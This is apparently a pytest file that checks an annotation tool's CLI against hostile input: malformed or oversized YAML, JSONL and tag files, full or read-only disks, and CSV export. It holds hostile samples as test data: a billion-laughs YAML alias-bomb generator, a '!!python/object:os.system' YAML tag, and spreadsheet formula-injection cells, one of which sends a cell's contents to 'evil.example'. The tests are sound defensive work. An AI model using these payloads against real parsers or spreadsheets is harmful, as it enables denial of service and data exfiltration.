"""Hostile input ends in one short line naming the file (and the key or line), exit 2,
nothing changed: never a traceback, a hang or a megabyte of error message."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from annotations.yamlio import YAMLRefused, _GuardedPyLoader, _load, load_yaml

MAX_ERROR_LINE = 300  # the one line a user reads; a hostile value must not blow it up


def _one_short_line(err: str) -> str:
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err[:2000]
    assert len(lines[0]) <= MAX_ERROR_LINE, lines[0][:500]
    return lines[0]


def _laughs(depth: int = 9, width: int = 9, key: str = "a") -> str:
    """The classic "billion laughs": 9 levels of 9 aliases, 9**9 strings once expanded,
    as a list under ``key`` (a real config key, so validation reaches it)."""
    items = ["&a0 [" + ", ".join(["lol"] * width) + "]"]
    for i in range(1, depth):
        items.append(f"&a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    return f"{key}:\n" + "".join(f"  - {item}\n" for item in items)


# -- load_yaml ---------------------------------------------------------------------------
def test_alias_bomb_is_refused_quickly():
    with pytest.raises(YAMLRefused, match="alias bomb") as info:
        load_yaml(_laughs())
    assert isinstance(info.value, yaml.YAMLError)  # callers catching YAMLError still work
    assert len(str(info.value)) < 120


def test_recursive_alias_is_refused():
    with pytest.raises(YAMLRefused, match="contains it"):
        load_yaml("k: &a [1, *a]\n")


def test_a_few_ordinary_aliases_still_load():
    """PyYAML's own dumper writes anchors for shared lists; those files must still load."""
    text = "shared: &l [trade, defence]\na: *l\nb: *l\nname: AT&T &co\n"
    assert load_yaml(text) == {"shared": ["trade", "defence"], "a": ["trade", "defence"],
                               "b": ["trade", "defence"], "name": "AT&T &co"}


@pytest.mark.parametrize("text, key", [
    ("n: " + "9" * 5000 + "\n", "n"),
    ("a:\n  b: [1, 2026-02-30]\n", "a.b[1]"),
    ("x: !!float " + "y" * 1_000_000 + "\n", "x"),
    ("t: !!timestamp 99999-01-01\n", "t"),
], ids=lambda v: v[:20])
def test_values_no_python_type_holds_are_refused_with_their_key(text, key):
    with pytest.raises(YAMLRefused) as info:
        load_yaml(text)
    assert info.value.key == key
    assert info.value.problem_mark is not None
    assert len(str(info.value)) < 200


@pytest.mark.parametrize("text", ["[" * 100_000 + "]" * 100_000, "k: " + "{a: " * 100_000,
                                  "- " * 100_000 + "x"], ids=["flow", "mapping", "block"])
def test_absurd_nesting_is_a_yaml_error(text):
    with pytest.raises(yaml.YAMLError):
        load_yaml(text)


def test_absurd_nesting_without_libyaml_is_refused_too():
    """The pure-Python composer recurses; on a machine without libyaml it must not
    end in RecursionError."""
    with pytest.raises(YAMLRefused, match="nested too deeply"):
        _load("[" * 5000 + "]" * 5000, _GuardedPyLoader)


def test_lone_surrogate_in_text_is_a_yaml_error():
    with pytest.raises(YAMLRefused, match="surrogate"):
        load_yaml("k: a\ud800b\n")


# -- config.yaml through the real CLI -----------------------------------------------------
@pytest.mark.parametrize("text, key, problem", [
    (_laughs(key="n_process"), None, "alias bomb"),
    ("n_process: " + "9" * 5000 + "\n", "n_process", "4,300 digits"),
    ("n_process: .inf\n", "n_process", "whole number"),
    ("n_process: .nan\n", "n_process", "whole number"),
    ("n_process: [1, 2]\n", "n_process", "whole number"),
    ("n_process: '4'\n", "n_process", "whole number"),
    ("annotator: [a, b]\n", "annotator", "must be a string"),
    ("annotator: " + "x" * 1_000_000 + "\n", "annotator", "longer than"),
    ("n_process: " + "x" * 1_000_000 + "\n", "n_process", "whole number"),
    ("labels:\n - {name: " + "n" * 1_000_000 + ", key: '1'}\n", "labels[0].name", "a word"),
    ("labels:\n - {name: a, key: " + "k" * 1_000_000 + "}\n", "labels[0].key", "a key"),
    ("labels:\n - {name: a, key: '1', colour: " + "c" * 1_000_000 + "}\n",
     "labels[0].colour", "invalid colour"),
    ("? " + "k" * 1_000_000 + "\n: 1\n", None, "unknown key"),
    ("entities: {GPE: " + "[" * 100_000 + "}\n", None, "nesting depth"),
    ("labels: " + "[" * 100_000 + "]" * 100_000 + "\n", None, "nesting depth"),
    ("labels: !!python/object:os.system {}\n", None, "YAML"),
], ids=lambda v: v[:20] if isinstance(v, str) else str(v))
def test_bad_config_is_one_short_line_naming_file_and_key(cli, tmp_path, text, key, problem):
    config = tmp_path / "hostile.yaml"
    config.write_text(text, "utf-8")
    result = cli("list", "--config", config, db=tmp_path / "db")
    assert result.code == 2
    line = _one_short_line(result.err)
    assert str(config) in line
    assert problem in line
    if key:
        assert f": {key}: " in line
    assert not (tmp_path / "db").exists()  # nothing was created


def test_config_that_never_ends_is_refused(cli, tmp_path):
    result = cli("list", "--config", "/dev/zero", db=tmp_path / "db")
    assert result.code == 2
    assert "larger than" in _one_short_line(result.err)


# -- article sources ------------------------------------------------------------------------
def _show(cli, db, article_id: str) -> dict:
    result = cli("show", article_id, "--json", db=db)
    assert result.code == 0, result.err
    return json.loads(result.out)


def _ids(cli, db) -> dict[str, str]:
    """Title -> id of every article."""
    result = cli("list", "--json", db=db)
    assert result.code == 0, result.err
    return {row["title"]: row["id"] for row in json.loads(result.out)}


def test_line_over_a_megabyte_is_imported_in_pieces(cli, tmp_path):
    """spaCy refuses a text over 1,000,000 characters (E088): the line goes to it in pieces
    cut after sentence ends, and the offsets still point into the stored text.
    (Long invented "words" keep spaCy's work small: 1 MB in about 1,000 tokens.)"""
    sentences = [f"{chr(65 + i % 26) * 1500} and {'q' * 500} number {i}." for i in range(520)]
    line = " ".join(sentences)
    assert len(line) > 1_000_000
    source = tmp_path / "unwrapped.txt"
    source.write_text(f"An unwrapped article\n{line}\nThe last sentence is here.\n", "utf-8")
    db = tmp_path / "db"
    result = cli("import", source, db=db)
    assert result.code == 0, result.err[-2000:]
    assert "Traceback" not in result.err
    shown = _show(cli, db, _ids(cli, db)["An unwrapped article"])
    rows = shown["sentences"]
    assert rows[0]["heading"] and rows[0]["text"] == "An unwrapped article"
    assert rows[-1]["text"] == "The last sentence is here."
    body = rows[1:-1]
    assert " ".join(r["text"] for r in body) == line  # nothing lost or doubled
    assert all(r["end"] - r["start"] == len(r["text"]) for r in body)
    offset = len("An unwrapped article\n")
    assert body[0]["start"] == offset and body[-1]["end"] == offset + len(line)
    # the pieces spaCy got were cut between two of the sentences, never inside one
    from annotations.nlp import MAX_CHUNK, line_jobs

    text = source.read_text("utf-8")
    starts, pos = set(), offset
    for sentence in sentences:
        starts.add(pos)
        pos += len(sentence) + 1
    pieces = line_jobs(text)[1:-1]
    assert len(pieces) > 1_000_000 // MAX_CHUNK
    assert all(start in starts and end - start <= MAX_CHUNK for start, end, _ in pieces)


def test_long_line_of_real_sentences_keeps_offsets(nlp):
    from annotations.nlp import MAX_CHUNK, process_texts

    paragraph = ("Ministers from both countries met in Geneva on Tuesday. They agreed to cut "
                 "tariffs on steel by ten percent! Would the deal survive the election? "
                 "Officials said talks would resume in March. ")
    line = (paragraph * (3 * MAX_CHUNK // len(paragraph))).strip()
    text = f"Trade talks\n{line}\nA closing line that ends here.\n"
    [result] = process_texts(nlp, [text])
    line_start, line_end = text.index(line), text.index(line) + len(line)
    body = [s for s in result.sentences if line_start <= s.start < line_end]
    assert all(s.end <= line_end for s in body)  # no sentence crosses the line break
    assert all("\n" not in text[s.start:s.end] for s in result.sentences)
    assert "".join(text[s.start:s.end] for s in body).replace(" ", "") == line.replace(" ", "")
    assert len(body) >= line.count(". ") + line.count("! ")  # cut only at sentence ends
    for e in result.entities:
        assert text[e.start:e.end] in {"Geneva", "Tuesday", "March", "ten percent"} or e.label


def test_split_long_line_cuts_after_sentences_then_spaces_then_hard():
    from annotations.nlp import split_long_line

    text = "x\n" + "Aa bb. Cc dd! " * 10 + "\n"
    pieces = split_long_line(text, 2, len(text) - 2, limit=30)
    assert all(b - a <= 30 for a, b in pieces)
    assert all(text[b - 1] in ".!" for a, b in pieces)
    words = "word " * 20
    pieces = split_long_line(words, 0, len(words) - 1, limit=12)
    assert [words[a:b] for a, b in pieces] == ["word word"] * 10
    blob = "z" * 25
    assert split_long_line(blob, 0, 25, limit=10) == [(0, 10), (10, 20), (20, 25)]


def test_hostile_jsonl_lines_are_reported_and_the_others_import(cli, tmp_path):
    good = {"id": "good-1", "title": "Good one", "text": "Paris hosted the talks on Monday."}
    lines = [
        json.dumps(good),
        '{"id": "sur", "title": "Surrogate \\ud800 title", "text": "Broken \\ud800 text here."}',
        '{"id": ' + "9" * 5000 + ', "text": "A huge integer id."}',
        '{"id": 1e400, "text": "An infinite id."}',
        '{"id": NaN, "text": "A NaN id."}',
        '{"id": Infinity, "text": "An Infinity id."}',
        '{"id": "x' + "y" * 1_000 + '", "text": "A very long id."}',
        '{"text": ["not", "a", "string"]}',
        '{"text": "Bad title type.", "title": 12}',
        '{"text": "Bad source type.", "source": {"a": 1}}',
        '{"id": [' + "[" * 100_000 + "]" * 100_000 + '], "text": "Deep."}',
        "[" * 100_000 + "]" * 100_000,
        '["an", "array"]',
        '"a string"',
        "null",
        "12",
        '{"text": "' + "b" * 1_000_000 + '", "title": ' + "[" * 10 + "]" * 10 + "}",
        json.dumps({"id": "good-2", "title": "Good two", "text": "Berlin answered on Friday."}),
    ]
    source = tmp_path / "hostile.jsonl"
    source.write_text("\n".join(lines) + "\n", "utf-8")
    db = tmp_path / "db"
    result = cli("import", source, db=db)
    assert result.code == 0, result.err[-2000:]
    assert "Traceback" not in result.err
    warnings = result.err.strip().splitlines()
    assert all(len(w) <= MAX_ERROR_LINE for w in warnings), max(map(len, warnings))
    reported = {int(m) for m in re.findall(r"hostile\.jsonl: line (\d+)", result.err)}
    assert reported == set(range(2, 18)), result.err
    assert "3 new" in result.out
    titles = _ids(cli, db)
    assert {"Good one", "Good two", "Surrogate \ufffd title"} == set(titles)
    shown = _show(cli, db, titles["Surrogate \ufffd title"])
    assert shown["sentences"][0]["text"] == "Broken \ufffd text here."
    # the article with a replaced character exports and loads back
    exported = cli("export", "--all", db=db)
    assert exported.code == 0, exported.err
    assert "Broken \ufffd text here." in exported.out


# -- disk full, read-only folder: real file systems -------------------------------------------
@pytest.fixture
def tmpfs(tmp_path):
    """A real, small tmpfs mounted for this test (tests run as root here and in CI).
    ``remount(ro=True)`` makes it read-only for real: chmod does not stop root."""
    mount_point = tmp_path / "mnt"
    mount_point.mkdir()
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount_point)],
                          capture_output=True, text=True)
    if made.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({made.stderr.strip()})")

    def remount(ro: bool) -> None:
        option = "remount,ro" if ro else "remount,rw"
        subprocess.run(["mount", "-o", option, str(mount_point)], check=True)

    try:
        yield mount_point, remount
    finally:
        subprocess.run(["umount", "-l", str(mount_point)], check=False)


def _small_database(cli, tmp_path, db: Path) -> str:
    source = tmp_path / "talks.txt"
    source.write_text("Trade talks\nParis hosted the talks on Monday. Berlin answered on "
                      "Friday.\n", "utf-8")
    assert cli("import", source, db=db).code == 0
    article = next(iter(_ids(cli, db).values()))
    assert cli("tag", article, "1", "trade", "--note", "kept", db=db).code == 0
    return article


def _export_a_tag_the_database_lacks(cli, tmp_path, db: Path, article: str) -> None:
    """An export whose import has to write (a tag that is no longer in the database)."""
    assert cli("tag", article, "2", "diplomacy", db=db).code == 0
    assert cli("export", "-o", tmp_path / "export.yaml", db=db).code == 0
    assert cli("tag", article, "2", "--clear", db=db).code == 0


def _state(cli, db: Path, article: str) -> list:
    return [(r["labels"], r["state"], r["note"]) for r in _show(cli, db, article)["sentences"]]


def _writing_commands(tmp_path, article: str, mount: Path) -> list[tuple[str, ...]]:
    other = tmp_path / "other.txt"
    other.write_text("Other news\nRome said nothing at all today.\n", "utf-8")
    exported = tmp_path / "export.yaml"
    return [
        ("tag", article, "2", "defence"),
        ("tag", article, "1", "--note", "changed"),
        ("import", str(other)),
        ("import-annotations", str(exported)),
        ("export", "-o", str(mount / "out.yaml")),
    ]


def test_read_only_database_folder_is_one_line_and_nothing_changes(cli, tmp_path, tmpfs):
    mount, remount = tmpfs
    db = mount / "db"
    article = _small_database(cli, tmp_path, db)
    _export_a_tag_the_database_lacks(cli, tmp_path, db, article)
    before = _state(cli, db, article)
    remount(ro=True)
    commands = _writing_commands(tmp_path, article, mount) + [("doctor", "--repair"), ()]
    for command in commands:  # () is the reader's start
        result = cli(*command, db=db)
        if command == ("doctor", "--repair"):
            assert result.code == 0  # a healthy database: nothing to write
            continue
        assert result.code == 2, (command, result.err)
        line = _one_short_line(result.err)
        assert "Read-only file system" in line, line
        assert str(mount) in line  # names the path
    remount(ro=False)
    assert _state(cli, db, article) == before
    assert "healthy" in cli("doctor", db=db).out
    # a repair that has something to write fails the same way, and leaves the file as it was
    damaged = db / "annotations" / f"{article}.json"
    damaged.write_bytes(damaged.read_bytes()[:10])
    remount(ro=True)
    result = cli("doctor", "--repair", db=db)
    assert result.code == 2, result.err
    assert "Read-only file system" in _one_short_line(result.err)
    assert len(damaged.read_bytes()) == 10


def test_full_disk_is_one_line_and_nothing_is_lost(cli, tmp_path, tmpfs):
    mount, _ = tmpfs
    db = mount / "db"
    article = _small_database(cli, tmp_path, db)
    _export_a_tag_the_database_lacks(cli, tmp_path, db, article)
    before = _state(cli, db, article)
    filler = mount / "filler"
    with filler.open("wb") as handle, pytest.raises(OSError):
        while True:  # fill the file system for real
            handle.write(b"\0" * 65536)
            handle.flush()
    for command in _writing_commands(tmp_path, article, mount):
        result = cli(*command, db=db)
        assert result.code == 2, (command, result.err)
        line = _one_short_line(result.err)
        assert "No space left on device" in line, line
        assert str(mount) in line
    assert _state(cli, db, article) == before  # every acknowledged tag and note is there
    assert not list(db.rglob("*.tmp"))  # no half-written temporary file left behind
    filler.unlink()
    assert "healthy" in cli("doctor", db=db).out
    assert cli("tag", article, "2", "defence", db=db).code == 0  # and it works again


# -- CSV export: no formula injection ----------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(cli, tmp_path):
    """OWASP's rule for CSV injection: a cell starting with = + - @ (or tab, CR) gets "'"."""
    source = tmp_path / "formulas.txt"
    source.write_text(
        "Formula news\n"
        '=HYPERLINK("http://evil.example/?x="&A1,"Click for details") was in the text.\n'
        "+1 is what the minister said about the plan.\n"
        "-5 percent was the cut in steel tariffs.\n"
        "@embassy posted the statement on Monday.\n"
        "A plain sentence stays as it is.\n", "utf-8")
    db = tmp_path / "db"
    assert cli("import", source, db=db).code == 0
    article = _ids(cli, db)["Formula news"]
    rows = _show(cli, db, article)["sentences"]
    note = '=HYPERLINK("http://evil.example","notes")'
    for row in rows:
        if not row["heading"]:
            assert cli("tag", article, str(row["index"]), "trade", "--note", note, db=db).code == 0
    result = cli("export", "-f", "csv", db=db)
    assert result.code == 0, result.err
    cells = list(csv.DictReader(io.StringIO(result.out)))
    texts = [c["text"] for c in cells]
    assert texts[0].startswith("'=HYPERLINK(") and texts[1].startswith("'+1 ")
    assert texts[2].startswith("'-5 ") and texts[3].startswith("'@embassy")
    assert texts[4] == "A plain sentence stays as it is."
    assert all(c["note"] == "'" + note for c in cells)
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r"))
               for c in cells for v in c.values())


def test_csv_cell_rule():
    from annotations.formats import csv_cell

    assert [csv_cell(v) for v in ["=1+2", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", "'q"]] == [
        "'=1+2", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", "'q"]


# -- error messages echo a capped value ---------------------------------------------------------
@pytest.mark.parametrize("line", [
    "{article} " + "9" * 1_000_000 + " trade",  # INDEX
    "r" * 1_000_000 + " 1 trade",  # ARTICLE
    "{article} 1 " + "L" * 1_000_000,  # LABEL
], ids=["index", "article", "label"])
def test_tag_file_with_a_megabyte_value_gives_a_short_line(cli, tmp_path, line):
    db = tmp_path / "db"
    article = _small_database(cli, tmp_path, db)
    before = _state(cli, db, article)
    ops = tmp_path / "ops.txt"
    ops.write_text(line.replace("{article}", article) + "\n", "utf-8")
    result = cli("tag", "--from", ops, db=db)
    assert result.code == 2
    _one_short_line(result.err)
    assert _state(cli, db, article) == before


def test_no_error_message_echoes_a_raw_repr():
    """Error messages echo values through errors.brief, never ``{value!r}`` (an alias bomb
    printed with !r was 4.9 MB)."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in [*sorted((root / "annotations").rglob("*.py")), root / "tui" / "cli.py"]:
        for number, text in enumerate(path.read_text("utf-8").splitlines(), start=1):
            if re.search(r"\{[^{}]*!r\}", text) and not text.lstrip().startswith("#"):
                offenders.append(f"{path.relative_to(root)}:{number}: {text.strip()}")
    assert offenders == []


def test_a_note_of_bytes_that_are_not_utf8_is_refused_in_one_line(cli, tmp_path):
    """`--note "$(printf 'bad \\xff')"`: the byte reaches argv as a lone surrogate."""
    db = tmp_path / "db"
    article = _small_database(cli, tmp_path, db)
    before = _state(cli, db, article)
    for args in (("tag", article, "2", "--note", os.fsdecode(b"bad \xff byte")),
                 ("tag", article, "2", os.fsdecode(b"trade\xff"))):
        result = cli(*args, db=db)
        assert result.code == 2, result.err
        assert "not valid UTF-8" in _one_short_line(result.err)
    assert _state(cli, db, article) == before


def test_a_tag_file_that_never_ends_is_refused_in_one_line(cli, tmp_path):
    """`tag --from /dev/zero` was a MemoryError traceback."""
    db = tmp_path / "db"
    article = _small_database(cli, tmp_path, db)
    result = cli("tag", "--from", "/dev/zero", db=db)
    assert result.code == 2 and "/dev/zero: larger than" in _one_short_line(result.err)
    notes = tmp_path / "ops.txt"  # and a note holding U+2028 stays one operation
    notes.write_text(f"{article} 2 trade --note 'one\u2028line'\n", "utf-8")
    assert cli("tag", "--from", notes, db=db).code == 0
    assert ["trade"] in [labels for labels, _, _ in _state(cli, db, article)]
